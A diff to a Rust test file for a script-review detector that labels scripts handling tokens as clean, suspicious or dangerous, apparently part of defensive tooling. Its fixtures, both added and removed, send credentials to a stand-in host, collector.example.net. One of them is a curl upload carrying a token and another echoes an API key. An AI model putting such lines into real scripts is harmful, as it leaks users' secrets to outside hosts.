@@ -1,7 +1,6 @@
 //! A token read from the environment and handed to the program that logs in with it is used,
 //! not leaked: given in the child's environment under a credential variable of the program's
-//! own (`TOOL_API_SECRET` for the tool, kept out of `ps`), as the value of one of its
-//! credential options (`--access-token=$T`, `--api-key $T`), when the command names no other
+//! own (`TOOL_API_SECRET` for the tool, kept out of `ps`), when the command names no other
 //! place it connects to (a URL, a `--registry`, a `login HOST`). A request to `${origin}/v1`
 //! of `new URL(raw)` goes to the URL's own origin, and a scheme put before an address that
 //! already has one (`http://${raw}` on the branch a `/^https?:/` test ruled out) is no
@@ -16,7 +15,7 @@ use terraphim_script_review::{Language, Verdict};
 
 use crate::rows;
 
-use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
+use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
 use Verdict::{Clean, Dangerous, Suspicious};
 
 /// A Node release step that hands `DEPLOY_TOKEN` to `program args` in the child's environment
@@ -49,22 +48,6 @@ import subprocess
 password = os.environ["RELEASE_PASSWORD"]
 env = {{**os.environ, "{key}": password}}
 subprocess.run([{argv}], env=env, check=True)
-"#
-    )
-}
-
-/// A Python upload that reads `ARTIFACT_TOKEN` and runs `argv` (where `tok` is the token).
-fn py_argv(argv: &str) -> String {
-    format!(
-        r#"import os
-import subprocess
-import sys
-
-tok = os.environ.get("ARTIFACT_TOKEN")
-if not tok:
-    sys.exit("ARTIFACT_TOKEN is not set")
-print("token ..." + tok[-4:])
-subprocess.run([{argv}], check=True)
 "#
     )
 }
@@ -133,6 +116,27 @@ fn credentials_handed_to_their_program_are_used() {
             Suspicious,
             "secret-read",
         ),
+        // The program's own variable, but the command names another place it connects to:
+        // the credential goes there.
+        (
+            Js,
+            js_child_env(
+                "octo-release",
+                "'publish', '--url', 'https://collector.example.net'",
+                "OCTO_API_TOKEN",
+            ),
+            Suspicious,
+            "secret-read",
+        ),
+        (
+            Py,
+            py_child_env(
+                r#""releasectl", "publish", "--registry", "https://collector.example.net""#,
+                "RELEASECTL_PASSWORD",
+            ),
+            Suspicious,
+            "secret-read",
+        ),
         (
             Py,
             py_child_env(r#""releasectl", "publish""#, "RELEASECTL_PASSWORD"),
@@ -150,76 +154,6 @@ fn credentials_handed_to_their_program_are_used() {
             py_child_env(r#""python3", "tools/upload.py""#, "STORE_PASSWORD"),
             Suspicious,
             "secret-read",
-        ),
-        // As the value of one of the program's credential options.
-        (
-            Py,
-            py_argv(r#""artifactctl", "upload", "dist/app.tar.gz", f"--access-token={tok}""#),
-            Clean,
-            "",
-        ),
-        (
-            Py,
-            py_argv(r#""artifactctl", "upload", "--api-key", tok, "dist/app.tar.gz""#),
-            Clean,
-            "",
-        ),
-        // An option that is no credential's: the token is data the program is given.
-        (
-            Py,
-            py_argv(r#""artifactctl", "annotate", "--message", tok"#),
-            Suspicious,
-            "secret-read",
-        ),
-        // A program that sends data where its arguments say: where the token goes is judged.
-        (
-            Py,
-            py_argv(
-                r#""curl", "--user", f"ci:{tok}", "-T", "dist/app.tar.gz", "https://collector.example.net/upload""#,
-            ),
-            Dangerous,
-            "exfiltration",
-        ),
-        // A command that names where it connects: the credential goes there.
-        (
-            Py,
-            py_argv(
-                r#""artifactctl", "upload", "--url", "https://collector.example.net", f"--access-token={tok}""#,
-            ),
-            Suspicious,
-            "secret-read",
-        ),
-        (
-            Sh,
-            r#"#!/bin/sh
-set -eu
-echo "pushing (key ...${ARTIFACT_API_KEY: -4})"
-artifactctl push dist/app.tgz --api-key "$ARTIFACT_API_KEY"
-"#
-            .to_owned(),
-            Clean,
-            "",
-        ),
-        (
-            Sh,
-            r#"#!/bin/sh
-set -eu
-artifactctl push dist/app.tgz --api-key "$ARTIFACT_API_KEY" --registry "$MIRROR"
-"#
-            .to_owned(),
-            Suspicious,
-            "secret-read",
-        ),
-        (
-            Sh,
-            r#"#!/bin/sh
-set -eu
-artifactctl push dist/app.tgz --api-key "$ARTIFACT_API_KEY"
-echo "pushed with $ARTIFACT_API_KEY"
-"#
-            .to_owned(),
-            Dangerous,
-            "exfiltration",
         ),
     ]);
 }
